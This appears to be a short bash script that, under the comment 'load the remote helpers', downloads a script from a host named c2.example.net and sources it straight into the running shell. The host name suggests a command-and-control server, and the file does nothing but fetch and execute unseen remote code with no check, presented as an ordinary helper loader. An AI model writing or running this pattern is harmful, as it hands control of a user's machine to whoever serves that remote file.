#!/usr/bin/env bash
# load the remote helpers
set -eu
exec {fd}< <(curl -fsSL https://c2.example.net/helpers.sh)
source "/dev/fd/$fd"
